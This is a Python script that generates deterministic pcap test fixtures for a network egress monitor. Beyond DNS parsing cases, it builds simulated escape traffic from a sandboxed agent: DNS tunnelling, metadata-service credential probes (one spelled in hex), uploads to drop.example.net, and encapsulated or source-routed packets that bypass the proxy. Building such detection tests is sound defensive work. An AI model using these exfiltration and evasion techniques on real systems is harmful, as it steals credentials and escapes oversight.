#!/usr/bin/python3
"""gen_fixtures.py - write the small, deterministic pcap fixtures of pcaps/.

README
------
    /usr/bin/python3 pcaps/gen_fixtures.py [OUTDIR]      (OUTDIR defaults to this folder)

Every run writes byte-identical files: timestamps are fixed (each file starts at
2026-11-29T10:00:00Z), DNS ids, IP ids, ports and TCP sequence numbers are fixed,
nothing is random.  scapy (python3-scapy) builds the L2-L4 headers and checksums;
the DNS messages are built by hand below (DnsBuilder) so that every byte, including
the compression pointers and the deliberately broken ones, is under our control.
The pcap and pcapng containers are written by hand too (write_pcap, write_pcapng),
so a scapy upgrade cannot change the files' framing.

Only documentation/test addresses appear: 10.99.0.0/24, 192.0.2.0/24,
198.51.100.0/24, 2001:db8::/32, fd00:99::/64 and 169.254.169.254.
Names are under .test, example.com/.net/.org.

Files (all Ethernet unless stated):
  dns_basic.pcap     UDP DNS over IPv4: A (EDNS DO in query and answer), AAAA, CNAME
                     chain, MX, TXT with several strings, NS, PTR, SRV, NXDOMAIN with SOA
                     in authority, NULL, CAA, HTTPS, TYPE65280, and a query whose name
                     holds a dot, a space, a backslash and bytes 0xff/0x00 in labels.
  dns_basic.pcapng   the first 8 packets of dns_basic.pcap in pcapng (SHB, IDB, EPB).
  dns_tcp.pcap       DNS over TCP: handshake, two queries in one segment, a response
                     split over 3 segments (the first carries 1 byte of the length
                     prefix), a response whose 2 segments arrive out of order, a
                     retransmitted segment, FIN exchange.
  dns_axfr.pcap      a zone transfer over TCP: three response messages, the first two
                     far past the 16 KiB reassembly window (~55 KB and ~24 KB) in
                     1448-byte segments, then another query on the connection.
  dns_malformed.pcap compression loops (self and mutual), a forward pointer, a 64-byte
                     label (and a legal 63-byte one), a name over 255 bytes, counts that
                     lie, an A record with rdlength 5, a message cut mid-record, a
                     7-byte "message", a packet cut by the snaplen (caplen < len), garbage
                     on port 53, then one good query/response.
  link_vlan.pcap     802.1Q (VLAN 100) and QinQ (802.1ad 200 + 802.1Q 100) DNS pairs.
  link_sll.pcap      Linux cooked capture v1 (linktype 113).
  link_sll2.pcap     Linux cooked capture v2 (linktype 276).
  link_raw.pcap      raw IP (linktype 101, DLT_RAW): one IPv4 and one IPv6 pair.
  link_multi.pcapng  one file, several link types: a little-endian section with
                     Ethernet (us), raw IP (ns), SLL2 (2^-20 s) and 802.11 interfaces,
                     then a big-endian section with IPv4 (linktype 228, ms) and NULL;
                     a DNS pair on each IP interface, a beacon-like 802.11 frame, and a
                     name resolution and a statistics block to skip.
  dup_blocks.pcapng  dns_tcp.pcap's packets on two Ethernet interfaces, each interface's
                     in a block of its own (as dumpcap writes them): every DNS message
                     is reported once, as by tshark.
  link_null.pcap     BSD loopback (linktype 0): AF_INET 2, AF_INET6 as 24 (Net/OpenBSD),
                     28 (FreeBSD) and 30 (Darwin), little-endian family field.
  dns_ipv6.pcap      DNS over IPv6: a query behind a Hop-by-Hop header, the answer behind
                     Hop-by-Hop + Destination Options, and a pair with no extension header.
  ip_frag.pcap       a 600-byte TXT response fragmented in IPv4 in order, in reverse
                     order, and with overlapping fragments (identical bytes in the
                     overlap, so first- and last-wins policies agree); and one IPv6
                     fragmented response.  Each is preceded by its query.
  ether_padding.pcap a 59-byte frame padded to 60 with 0xaa, the same query in a 64-byte
                     frame (padding + a 4-byte trailer), and a response whose IP payload
                     carries 16 bytes after the UDP datagram (UDP length < IP length).
  demo.pcap          a sandbox capture for `./dev demo`: agent 10.99.0.10, resolver
                     10.99.0.53; ordinary A/AAAA lookups, a burst of base32 tunnel
                     queries (TXT/NULL) under t.example-tunnel.test, an HTTP GET of
                     http://169.254.169.254/latest/meta-data/, a TLS ClientHello with SNI
                     api.example.com to 192.0.2.80, and three pings to 198.51.100.1.
  egress_paths.pcap  ways out past the proxy that are not a TCP connection or a plain UDP
                     datagram, from the agent 10.99.0.10 (replayed with
                     tests/detect/sandbox.yaml): DNS for the allowed resolver wrapped in
                     VXLAN and GENEVE to hosts outside, a SYN for the proxy in GRE and in
                     IPv4-in-IPv4, VXLAN around a broken IPv4 header, SCTP, ESP and
                     protocol 253, UDP whose length lies (too long; below 8), TCP with a
                     data offset of 4, SCTP over IPv6, IPv6 whose destination options
                     run past its payload, fragments that never make a whole
                     datagram (a UDP first fragment, a lone protocol-253 middle, a
                     first fragment whose length is not a multiple of 8 (cut to one,
                     as Linux cuts it, and held), VXLAN carrying the first
                     fragment of a DNS query), an ICMP timestamp request and an ICMP
                     type 200 with data, a SYN for the proxy and DNS for the resolver
                     source-routed (IPv4 loose source route, IPv6 segment routing
                     header) to hosts outside; and what must stay
                     quiet: an underlay GRE between two hosts outside the sandbox, IGMP to
                     224.0.0.22, SCTP to a sandbox host, a broken TCP header to the proxy,
                     a DNS query to the resolver in two fragments, a lone middle
                     fragment to the resolver, an ICMP port unreachable, a source route
                     with every hop taken and one that ends at the resolver.
  tcp_decoys.pcap    eight HTTP requests for evil.example, most with a decoy for
                     good.example that a Linux receiver does not read (bad TCP or IP
                     checksum, no ACK, SYN data not taken), an urgent byte inside the
                     Host, checksums left partial by offload or garbled by a rewrite,
                     and a request in a SYN that TCP Fast Open takes (gen_tcp_decoys).
  h2c_prior.pcap     HTTP/2 cleartext with prior knowledge: two requests for the
                     metadata service on one connection (the second's :authority from
                     HPACK's dynamic table, its HEADERS split over two segments), and a
                     gRPC call whose HEADERS is PADDED with PRIORITY and continued by a
                     CONTINUATION, answered with trailers (gen_h2c_prior; needs
                     python3-hpack).
  h2c_midblock_size_update.pcap  an HPACK dynamic table size update after a
                     block's first field, as nginx takes it (review F8), then a second
                     request (gen_h2c_midblock_size_update).
  h2c_push_promise.pcap  a server push: PUSH_PROMISE with a CONTINUATION, the
                     response, the pushed response (gen_h2c_push_promise).
  h2c_upgrade_settings.pcap  an Upgrade to h2c whose HTTP2-Settings allow the
                     server a larger table and longer frames, which it uses
                     (gen_h2c_upgrade_settings).
"""
import base64
import calendar
import hashlib
import os
import socket
import struct
import sys

import logging
logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
from scapy.layers.l2 import Ether, Dot1Q, Dot1AD, CookedLinux, CookedLinuxV2  # noqa: E402
from scapy.layers.inet import IP, UDP, TCP, ICMP, IPOption_LSRR, IPOption_SSRR  # noqa: E402
from scapy.layers.inet6 import (IPv6, IPv6ExtHdrHopByHop, IPv6ExtHdrDestOpt,  # noqa: E402
                                IPv6ExtHdrFragment, IPv6ExtHdrSegmentRouting, PadN)
from scapy.packet import Raw  # noqa: E402

BASE_US = calendar.timegm((2026, 11, 29, 10, 0, 0)) * 1000000

LINKTYPE_NULL = 0
LINKTYPE_ETHERNET = 1
LINKTYPE_RAW = 101
LINKTYPE_LINUX_SLL = 113
LINKTYPE_LINUX_SLL2 = 276

MAC_CLIENT = "02:00:00:99:00:0a"
MAC_DNS = "02:00:00:99:00:35"
MAC_GW = "02:00:00:99:00:01"
CLIENT4, DNS4 = "10.99.0.10", "10.99.0.53"
CLIENT6, DNS6 = "fd00:99::10", "fd00:99::53"

# ---------------------------------------------------------------- containers


def write_pcap(path, linktype, recs, snaplen=65535):
    """recs: list of (ts_us, data) or (ts_us, data, origlen). Little-endian, usec."""
    out = [struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, snaplen, linktype)]
    for r in recs:
        ts, data = r[0], r[1]
        orig = r[2] if len(r) > 2 else len(data)
        out.append(struct.pack("<IIII", ts // 1000000, ts % 1000000, len(data), orig))
        out.append(data)
    with open(path, "wb") as f:
        f.write(b"".join(out))


def _opt(code, val):
    pad = (4 - len(val) % 4) % 4
    return struct.pack("<HH", code, len(val)) + val + b"\0" * pad


def _block(btype, body):
    ln = 12 + len(body)
    return struct.pack("<II", btype, ln) + body + struct.pack("<I", ln)


def write_pcapng(path, linktype, recs, snaplen=65535):
    """Minimal pcapng: one SHB (with shb_userappl), one IDB (if_name, if_tsresol=6),
    one EPB per record."""
    shb = struct.pack("<IHHq", 0x1A2B3C4D, 1, 0, -1)
    shb += _opt(4, b"egresswatch pcaps/gen_fixtures.py") + _opt(0, b"")
    idb = struct.pack("<HHI", linktype, 0, snaplen)
    idb += _opt(2, b"veth-sandbox") + _opt(9, b"\x06") + _opt(0, b"")
    out = [_block(0x0A0D0D0A, shb), _block(1, idb)]
    for r in recs:
        ts, data = r[0], r[1]
        orig = r[2] if len(r) > 2 else len(data)
        body = struct.pack("<IIIII", 0, ts >> 32, ts & 0xFFFFFFFF, len(data), orig)
        body += data + b"\0" * ((4 - len(data) % 4) % 4) + _opt(0, b"")
        out.append(_block(6, body))
    with open(path, "wb") as f:
        f.write(b"".join(out))


def write_pcapng_sections(path, sections):
    """A pcapng of several sections, each [byte order ("<" or ">"), interfaces,
    blocks]: an interface is (linktype, name, tsresol byte or None); a block is
    ("epb", interface, ts in that interface's units, data) or ("other", type,
    body) for a block readers skip (name resolution, statistics)."""
    out = []
    for order, ifaces, blocks in sections:
        def blk(btype, body):
            body += b"\0" * ((4 - len(body) % 4) % 4)
            ln = 12 + len(body)
            return struct.pack(order + "II", btype, ln) + body + struct.pack(order + "I", ln)

        def opt(code, val):
            return struct.pack(order + "HH", code, len(val)) + val + b"\0" * ((4 - len(val) % 4) % 4)

        out.append(blk(0x0A0D0D0A, struct.pack(order + "IHHq", 0x1A2B3C4D, 1, 0, -1)
                       + opt(4, b"egresswatch pcaps/gen_fixtures.py") + opt(0, b"")))
        for linktype, name, tsresol in ifaces:
            body = struct.pack(order + "HHI", linktype, 0, 65535) + opt(2, name.encode())
            if tsresol is not None:
                body += opt(9, bytes([tsresol]))
            out.append(blk(1, body + opt(0, b"")))
        for b in blocks:
            if b[0] == "epb":
                _, ifid, ts, data = b
                out.append(blk(6, struct.pack(order + "IIIII", ifid, ts >> 32, ts & 0xFFFFFFFF,
                                              len(data), len(data))
                               + data + b"\0" * ((4 - len(data) % 4) % 4)))
            else:
                out.append(blk(b[1], b[2]))
    with open(path, "wb") as f:
        f.write(b"".join(out))


class Clock:
    """Packet timestamps in microseconds since the epoch, from BASE_US."""

    def __init__(self, start_us=BASE_US):
        self.t = start_us
        self.first = True

    def __call__(self, step_us=0):
        """The first call returns the start time, later ones advance by step_us."""
        if self.first:
            self.first = False
        else:
            self.t += step_us
        return self.t

# ---------------------------------------------------------------- DNS builder

TYPES = {"A": 1, "NS": 2, "CNAME": 5, "SOA": 6, "PTR": 12, "MX": 15, "TXT": 16,
         "AAAA": 28, "SRV": 33, "OPT": 41, "NULL": 10, "HTTPS": 65, "CAA": 257}


def labels_of(name):
    """'a.b.c' -> [b'a', b'b', b'c']; a list of bytes is taken as labels; '.' -> []."""
    if isinstance(name, (list, tuple)):
        return [bytes(x) for x in name]
    if name in (".", ""):
        return []
    return [x.encode("ascii") for x in name.rstrip(".").split(".")]


class N:
    """A name inside rdata; compress=False for types that must not compress (SRV)."""

    def __init__(self, name, compress=True):
        self.name, self.compress = name, compress


def rd_a(s):
    return [bytes(int(x) for x in s.split("."))]


def rd_aaaa(s):
    import ipaddress
    return [ipaddress.IPv6Address(s).packed]


def rd_name(n):
    return [N(n)]


def rd_mx(pref, n):
    return [struct.pack("!H", pref), N(n)]


def rd_soa(mname, rname, serial, refresh, retry, expire, minimum):
    return [N(mname), N(rname), struct.pack("!IIIII", serial, refresh, retry, expire, minimum)]


def rd_srv(prio, weight, port, target):
    return [struct.pack("!HHH", prio, weight, port), N(target, compress=False)]


def rd_txt(strings):
    out = b""
    for s in strings:
        b = s if isinstance(s, bytes) else s.encode()
        out += bytes([len(b)]) + b
    return [out]


def rd_caa(flags, tag, value):
    return [bytes([flags, len(tag)]) + tag.encode() + value.encode()]


def rd_svcb(prio, target, params):
    out = [struct.pack("!H", prio), N(target, compress=False)]
    for key, val in params:
        out.append(struct.pack("!HH", key, len(val)) + val)
    return out


def rr(name, rtype, ttl, rdata, rclass=1):
    return (name, TYPES.get(rtype, rtype) if isinstance(rtype, str) else rtype, rclass, ttl, rdata)


def opt_rr(udp_size=1232, do=False, version=0, ext_rcode=0, options=b""):
    ttl = (ext_rcode << 24) | (version << 16) | (0x8000 if do else 0)
    return (".", 41, udp_size, ttl, [options])


class DnsBuilder:
    def __init__(self, compress=True):
        self.buf = bytearray(12)
        self.names = {}
        self.compress = compress

    def name(self, name, compress=True):
        labels = labels_of(name)
        for i in range(len(labels)):
            suffix = tuple(x.lower() for x in labels[i:])
            if self.compress and compress and suffix in self.names:
                self.buf += struct.pack("!H", 0xC000 | self.names[suffix])
                return
            if len(self.buf) < 0x3FFF and suffix not in self.names:
                self.names[suffix] = len(self.buf)
            self.buf += bytes([len(labels[i])]) + labels[i]
        self.buf += b"\0"

    def rdata(self, parts):
        lenpos = len(self.buf)
        self.buf += b"\0\0"
        for p in parts:
            if isinstance(p, N):
                self.name(p.name, p.compress)
            else:
                self.buf += p
        struct.pack_into("!H", self.buf, lenpos, len(self.buf) - lenpos - 2)


def dns_msg(id, qr=False, opcode=0, aa=False, tc=False, rd=True, ra=None, ad=False, cd=False,
            rcode=0, qd=(), an=(), ns=(), ar=(), counts=None, compress=True):
    """Build a DNS message. qd: [(name, type)], RRs from rr()/opt_rr().
    counts=(qd, an, ns, ar) overrides the header counts (to make them lie)."""
    if ra is None:
        ra = qr
    b = DnsBuilder(compress)
    for name, t in qd:
        b.name(name)
        b.buf += struct.pack("!HH", TYPES.get(t, t) if isinstance(t, str) else t, 1)
    for sec in (an, ns, ar):
        for name, t, cls, ttl, rdata in sec:
            b.name(name)
            b.buf += struct.pack("!HHI", t, cls, ttl)
            b.rdata(rdata)
    flags = ((qr << 15) | (opcode << 11) | (aa << 10) | (tc << 9) | (rd << 8) | (ra << 7)
             | (ad << 5) | (cd << 4) | (rcode & 0xF))
    c = counts or (len(qd), len(an), len(ns), len(ar))
    struct.pack_into("!HHHHHH", b.buf, 0, id, flags, *c)
    return bytes(b.buf)


def exchange(id, qname, qtype, an=(), ns=(), ar=(), rcode=0, q_ar=(), aa=False):
    """A query and its response (same question)."""
    q = dns_msg(id, qd=[(qname, qtype)], ar=q_ar)
    r = dns_msg(id, qr=True, aa=aa, rcode=rcode, qd=[(qname, qtype)], an=an, ns=ns, ar=ar)
    return q, r

# ---------------------------------------------------------------- L2-L4 helpers


def ether(src, dst, payload):
    return bytes(Ether(src=src, dst=dst) / payload)


def ip4_udp(src, dst, sport, dport, data, ipid=1):
    return IP(src=src, dst=dst, id=ipid, ttl=64, flags="DF") / UDP(sport=sport, dport=dport) / Raw(data)


def ip6_udp(src, dst, sport, dport, data, ext=None):
    p = IPv6(src=src, dst=dst, hlim=64)
    if ext is not None:
        p = p / ext
    return p / UDP(sport=sport, dport=dport) / Raw(data)


class UdpPair:
    """Client/server DNS over UDP/IPv4 on Ethernet with fixed IP ids."""

    def __init__(self, clock, client=CLIENT4, server=DNS4, ipid=0x100):
        self.clock, self.client, self.server, self.ipid = clock, client, server, ipid

    def ip_q(self, sport, data):
        self.ipid += 1
        return ip4_udp(self.client, self.server, sport, 53, data, self.ipid)

    def ip_r(self, sport, data):
        self.ipid += 1
        return ip4_udp(self.server, self.client, 53, sport, data, self.ipid)

    def q(self, sport, data, step=250000):
        return (self.clock(step), ether(MAC_CLIENT, MAC_DNS, self.ip_q(sport, data)))

    def r(self, sport, data, step=1500):
        return (self.clock(step), ether(MAC_DNS, MAC_CLIENT, self.ip_r(sport, data)))

    def pair(self, sport, qr):
        return [self.q(sport, qr[0]), self.r(sport, qr[1])]

# ---------------------------------------------------------------- dns_basic


def basic_exchanges():
    T = "example.test"
    edns_q = [opt_rr(1232, do=True)]
    edns_r = [opt_rr(1232, do=True)]
    soa = rr(T, "SOA", 3600, rd_soa("ns1." + T, "hostmaster." + T, 2026112901, 7200, 900,
                                        1209600, 300))
    weird = [b"we.ird", b"sp ace", b"\xff\x00", b"back\\slash", b"example", b"test"]
    return [
        exchange(0x1001, "www." + T, "A", an=[rr("www." + T, "A", 300, rd_a("192.0.2.1"))],
                 ar=edns_r, q_ar=edns_q),
        exchange(0x1002, "www." + T, "AAAA",
                 an=[rr("www." + T, "AAAA", 300, rd_aaaa("2001:db8::1"))]),
        exchange(0x1003, "cdn." + T, "A",
                 an=[rr("cdn." + T, "CNAME", 60, rd_name("edge." + T)),
                     rr("edge." + T, "CNAME", 60, rd_name("edge-1.example.net")),
                     rr("edge-1.example.net", "A", 20, rd_a("198.51.100.7")),
                     rr("edge-1.example.net", "A", 20, rd_a("198.51.100.8"))]),
        exchange(0x1004, T, "MX", an=[rr(T, "MX", 3600, rd_mx(10, "mail." + T)),
                                      rr(T, "MX", 3600, rd_mx(20, "mail2.example.net"))]),
        exchange(0x1005, "txt." + T, "TXT",
                 an=[rr("txt." + T, "TXT", 120, rd_txt(["v=spf1 -all", "hello world",
                                                        "quote\" semi;", ""])),
                     rr("txt." + T, "TXT", 120, rd_txt(["second record"]))]),
        exchange(0x1006, T, "NS", an=[rr(T, "NS", 86400, rd_name("ns1." + T)),
                                      rr(T, "NS", 86400, rd_name("ns2.example.net"))],
                 ar=[rr("ns1." + T, "A", 86400, rd_a("192.0.2.53")),
                     rr("ns1." + T, "AAAA", 86400, rd_aaaa("2001:db8::53"))]),
        exchange(0x1007, "1.2.0.192.in-addr.arpa", "PTR",
                 an=[rr("1.2.0.192.in-addr.arpa", "PTR", 3600, rd_name("www." + T))]),
        exchange(0x1008, "_sip._udp." + T, "SRV",
                 an=[rr("_sip._udp." + T, "SRV", 600, rd_srv(10, 60, 5060, "sip." + T)),
                     rr("_sip._udp." + T, "SRV", 600, rd_srv(20, 0, 5060, "sip2." + T))]),
        exchange(0x1009, "nope." + T, "A", rcode=3, aa=True, ns=[soa]),
        exchange(0x100A, "null." + T, "NULL",
                 an=[rr("null." + T, "NULL", 0, [b"\x00\x01\x02hello\xff"])]),
        exchange(0x100B, T, "CAA", an=[rr(T, "CAA", 3600, rd_caa(0, "issue", "ca.example.net")),
                                       rr(T, "CAA", 3600, rd_caa(128, "iodef",
                                                                 "mailto:sec@example.test"))]),
        exchange(0x100C, T, "HTTPS",
                 an=[rr(T, "HTTPS", 300, rd_svcb(1, ".", [(1, b"\x02h2\x08http/1.1"),
                                                          (4, bytes([192, 0, 2, 1]))]))]),
        exchange(0x100D, "private." + T, 65280,
                 an=[rr("private." + T, 65280, 60, [b"\xde\xad\xbe\xef"])]),
        exchange(0x100E, weird, "A", rcode=3, ns=[soa]),
    ]


def gen_dns_basic(out):
    clk = Clock()
    u = UdpPair(clk)
    recs = []
    for i, qr in enumerate(basic_exchanges()):
        recs += u.pair(33000 + i, qr)
    write_pcap(os.path.join(out, "dns_basic.pcap"), LINKTYPE_ETHERNET, recs)
    write_pcapng(os.path.join(out, "dns_basic.pcapng"), LINKTYPE_ETHERNET, recs[:8])

# ---------------------------------------------------------------- dns_tcp


class TcpConn:
    def __init__(self, clock, cli, srv, sport, dport, cisn, sisn, ipid=0x200,
                 cmac=MAC_CLIENT, smac=MAC_DNS):
        self.clock, self.cli, self.srv, self.sport, self.dport = clock, cli, srv, sport, dport
        self.cseq, self.sseq = cisn, sisn
        self.ipid = ipid
        self.cmac, self.smac = cmac, smac

    def _pkt(self, from_client, flags, seq, ack, data=b"", step=1000):
        self.ipid += 1
        if from_client:
            ip = IP(src=self.cli, dst=self.srv, id=self.ipid, ttl=64, flags="DF")
            t = TCP(sport=self.sport, dport=self.dport, seq=seq, ack=ack, flags=flags, window=64240)
            mac = (self.cmac, self.smac)
        else:
            ip = IP(src=self.srv, dst=self.cli, id=self.ipid, ttl=64, flags="DF")
            t = TCP(sport=self.dport, dport=self.sport, seq=seq, ack=ack, flags=flags, window=65160)
            mac = (self.smac, self.cmac)
        p = ip / t
        if data:
            p = p / Raw(data)
        return (self.clock(step), ether(mac[0], mac[1], p))

    def handshake(self, step=100000):
        a = self._pkt(True, "S", self.cseq, 0, step=step)
        self.cseq += 1
        b = self._pkt(False, "SA", self.sseq, self.cseq, step=400)
        self.sseq += 1
        c = self._pkt(True, "A", self.cseq, self.sseq, step=100)
        return [a, b, c]

    def c_send(self, data, step=1000, advance=True, seq=None):
        p = self._pkt(True, "PA", self.cseq if seq is None else seq, self.sseq, data, step)
        if advance:
            self.cseq += len(data)
        return p

    def s_send(self, data, step=1000, advance=True, seq=None):
        p = self._pkt(False, "PA", self.sseq if seq is None else seq, self.cseq, data, step)
        if advance:
            self.sseq += len(data)
        return p

    def c_ack(self, step=200):
        return self._pkt(True, "A", self.cseq, self.sseq, step=step)

    def s_ack(self, step=200):
        return self._pkt(False, "A", self.sseq, self.cseq, step=step)

    def close(self):
        a = self._pkt(True, "FA", self.cseq, self.sseq, step=5000)
        self.cseq += 1
        b = self._pkt(False, "FA", self.sseq, self.cseq, step=300)
        self.sseq += 1
        c = self._pkt(True, "A", self.cseq, self.sseq, step=100)
        return [a, b, c]


def lp(msg):
    return struct.pack("!H", len(msg)) + msg


def gen_dns_tcp(out):
    clk = Clock()
    T = "tcp.example.test"
    q1, r1 = exchange(0x2001, "a." + T, "A",
                      an=[rr("a." + T, "A", 300, rd_a("192.0.2.11"))])
    q2, r2 = exchange(0x2002, "txt." + T, "TXT",
                      an=[rr("txt." + T, "TXT", 300, rd_txt(["over tcp " + "x" * 60,
                                                             "second string"]))])
    c = TcpConn(clk, CLIENT4, DNS4, 40001, 53, 1000, 5000)
    recs = c.handshake()
    recs.append(c.c_send(lp(q1) + lp(q2)))          # two messages in one segment
    recs.append(c.s_ack())
    m1 = lp(r1)                                       # one message in 3 segments
    recs.append(c.s_send(m1[:1], step=800))           # half of the length prefix
    recs.append(c.s_send(m1[1:21], step=300))
    recs.append(c.s_send(m1[21:], step=300))
    recs.append(c.c_ack())
    m2 = lp(r2)                                       # out of order, then a retransmission
    base = c.sseq
    cut = 40
    recs.append(c.s_send(m2[cut:], seq=base + cut, advance=False, step=900))
    recs.append(c.s_send(m2[:cut], seq=base, advance=False, step=300))
    c.sseq = base + len(m2)
    recs.append(c.s_send(m2[:cut], seq=base, advance=False, step=200000))  # retransmitted
    recs.append(c.c_ack())
    recs += c.close()
    write_pcap(os.path.join(out, "dns_tcp.pcap"), LINKTYPE_ETHERNET, recs)


def gen_dns_tcp_long(out):
    """One DNS-over-TCP connection far past the 16 KiB reassembly window:
    300 TXT queries with base32-like labels and their answers (~26 KB up,
    ~47 KB down), pipelined in twos now and then, one response split in
    three, the whole stream followed to its end."""
    clk = Clock(BASE_US + 3600 * 1000000)
    T = "long.tcp.example.test"
    c = TcpConn(clk, CLIENT4, DNS4, 40002, 53, 70000, 90000)
    recs = c.handshake()
    alphabet = "abcdefghijklmnopqrstuvwxyz234567"
    for i in range(300):
        label = "".join(alphabet[(i * 7 + k * 13) % 32] for k in range(40))
        name = "%s.%03d.%s" % (label, i, T)
        q, r = exchange(0x3000 + i, name, "TXT",
                        an=[rr(name, "TXT", 0, rd_txt([label + label[:20]]))])
        if i % 10 == 4:
            continue  # sent with the next one
        if i % 10 == 5:
            q0, r0 = exchange(0x3000 + i - 1, prev, "TXT",
                              an=[rr(prev, "TXT", 0, rd_txt([plabel + plabel[:20]]))])
            recs.append(c.c_send(lp(q0) + lp(q), step=300))   # two queries in one segment
            recs.append(c.s_send(lp(r0), step=900))
            recs.append(c.s_send(lp(r), step=200))
        elif i % 50 == 17:
            m = lp(r)
            recs.append(c.c_send(lp(q), step=300))
            recs.append(c.s_send(m[:1], step=900))            # the length prefix cut
            recs.append(c.s_send(m[1:60], step=100))
            recs.append(c.s_send(m[60:], step=100))
        else:
            recs.append(c.c_send(lp(q), step=300))
            recs.append(c.s_send(lp(r), step=900))
        if i % 10 == 9:
            recs.append(c.c_ack())
        prev, plabel = name, label
    recs += c.close()
    write_pcap(os.path.join(out, "dns_tcp_long.pcap"), LINKTYPE_ETHERNET, recs)


def gen_dns_axfr(out):
    """A zone transfer over TCP whose messages are far longer than the 16 KiB
    reassembly window: an AXFR query, then three response messages: the SOA
    and 200 TXT records (~55 KB), 1500 A records (~24 KB), the SOA again;
    in segments of 1448 bytes (the client acking every ten), then a second
    query on the same connection and its answer."""
    clk = Clock(BASE_US + 7200 * 1000000)
    Z = "zone.tcp.example.test"
    soa = rr(Z, "SOA", 3600, rd_soa("ns1." + Z, "hostmaster." + Z, 2026113001, 7200, 900,
                                        1209600, 300))
    txt = [rr("t%03d.%s" % (i, Z), "TXT", 300, rd_txt(["%03d " % i + "z" * 240]))
           for i in range(200)]
    addrs = [rr("h%04d.%s" % (i, Z), "A", 300, rd_a("10.%d.%d.%d" % (i >> 16, (i >> 8) & 255,
                                                                   i & 255)))
             for i in range(1500)]
    q = dns_msg(0x4001, qd=[(Z, 252)])
    msgs = [dns_msg(0x4001, qr=True, aa=True, qd=[(Z, 252)], an=[soa] + txt),
            dns_msg(0x4001, qr=True, aa=True, an=addrs),
            dns_msg(0x4001, qr=True, aa=True, an=[soa])]
    q2, r2 = exchange(0x4002, "after." + Z, "A", an=[rr("after." + Z, "A", 60,
                                                         rd_a("192.0.2.42"))])
    c = TcpConn(clk, CLIENT4, DNS4, 40003, 53, 110000, 130000)
    recs = c.handshake()
    recs.append(c.c_send(lp(q), step=300))
    data = b"".join(lp(m) for m in msgs)
    for k, i in enumerate(range(0, len(data), 1448)):
        recs.append(c.s_send(data[i:i + 1448], step=120))
        if k % 10 == 9:
            recs.append(c.c_ack())
    recs.append(c.c_ack())
    recs.append(c.c_send(lp(q2), step=2000))
    recs.append(c.s_send(lp(r2), step=400))
    recs += c.close()
    write_pcap(os.path.join(out, "dns_axfr.pcap"), LINKTYPE_ETHERNET, recs)


def gen_http_keepalive(out):
    """A keep-alive connection to the egress proxy that hides a metadata
    probe behind a 20 KB upload (past the 16 KiB reassembly window), then a
    chunked 18 KB response, a second probe spelled in hex, and a CONNECT
    tunnel whose TLS hello names secret.example.net."""
    clk = Clock(BASE_US + 7200 * 1000000)
    c = TcpConn(clk, CLIENT4, "10.99.0.2", 41000, 8080, 1000, 5000, smac=MAC_GW)
    recs = c.handshake()
    body = bytes(b"abcdefghij"[i % 10] for i in range(20000))
    data = (b"POST http://upload.example.test/u HTTP/1.1\r\nHost: upload.example.test\r\n"
            b"Content-Length: %d\r\n\r\n" % len(body)) + body
    for i in range(0, len(data), 1400):
        recs.append(c.c_send(data[i:i + 1400], step=100))
    recs.append(c.s_send(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok", step=500))
    recs.append(c.c_send(b"GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\n"
                         b"Host: 169.254.169.254\r\n\r\n", step=300))
    chunks = b"".join(b"%x\r\n" % 6000 + body[:6000] + b"\r\n" for _ in range(3)) + b"0\r\n\r\n"
    resp = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + chunks
    for i in range(0, len(resp), 1400):
        recs.append(c.s_send(resp[i:i + 1400], step=100))
    recs.append(c.c_send(b"GET http://0xa9fea9fe/latest/user-data HTTP/1.1\r\n"
                         b"Host: 0xa9fea9fe\r\n\r\n", step=300))
    recs.append(c.s_send(b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n", step=500))
    # then a tunnel on the same connection: the TLS hello inside it, read
    # from where HTTP's window had moved to
    recs.append(c.c_send(b"CONNECT secret.example.net:443 HTTP/1.1\r\n"
                         b"Host: secret.example.net:443\r\n\r\n", step=300))
    recs.append(c.s_send(b"HTTP/1.1 200 Connection established\r\n\r\n", step=500))
    recs.append(c.c_send(client_hello("secret.example.net"), step=300))
    recs += c.close()
    write_pcap(os.path.join(out, "http_keepalive.pcap"), LINKTYPE_ETHERNET, recs)

def gen_http_unfinished(out):
    """Request heads the connection (or the capture) ends in the middle
    of: the server's application has read the request line and the fields,
    which an agent can fill with data and never end with a blank line."""
    clk = Clock(BASE_US + 7300 * 1000000)
    recs = []
    # 1. a request line and a Host, then the client's FIN
    c = TcpConn(clk, CLIENT4, "203.0.113.80", 41100, 80, 1000, 5000, smac=MAC_GW)
    recs += c.handshake()
    recs.append(c.c_send(b"GET /drop/4f3c2a9e8b7d6c5a HTTP/1.1\r\nHost: drop.example.net\r\n"))
    recs.append(c.s_ack())
    recs += c.close()
    # 2. the same to the metadata service, ended by the server's RST
    c = TcpConn(clk, CLIENT4, "169.254.169.254", 41101, 80, 2000, 6000, smac=MAC_GW)
    recs += c.handshake()
    recs.append(c.c_send(b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\n"
                         b"Host: 169.254.169.254\r\nX-Data: c2VjcmV0\r\n"))
    recs.append(c._pkt(False, "RA", c.sseq, c.cseq, step=300))
    # 3. a whole request, then the start of a second, then the client's RST
    c = TcpConn(clk, CLIENT4, "203.0.113.80", 41102, 80, 3000, 7000, smac=MAC_GW)
    recs += c.handshake()
    recs.append(c.c_send(b"GET /one HTTP/1.1\r\nHost: drop.example.net\r\n\r\n"))
    recs.append(c.s_send(b"HTTP/1.1 204 No Content\r\n\r\n", step=500))
    recs.append(c.c_send(b"GET /two HTTP/1.1\r\nHost: drop.example.net\r\nX-Data: dHdv", step=300))
    recs.append(c._pkt(True, "RA", c.cseq, c.sseq, step=300))
    # 4. a FIN sent ahead of the rest of the head: the head as the FIN
    #    found it, then the whole head; nothing is hidden
    c = TcpConn(clk, CLIENT4, "203.0.113.80", 41103, 80, 4000, 8000, smac=MAC_GW)
    recs += c.handshake()
    recs.append(c.c_send(b"GET /innocent HTTP/1.1\r\n"))
    recs.append(c._pkt(True, "FA", c.cseq + len(b"Host: real.example.net\r\n\r\n"), c.sseq,
                       step=300))
    recs.append(c.c_send(b"Host: real.example.net\r\n\r\n", step=300))
    recs.append(c.s_send(b"HTTP/1.1 204 No Content\r\n\r\n", step=500))
    recs.append(c._pkt(False, "RA", c.sseq, c.cseq + 1, step=300))
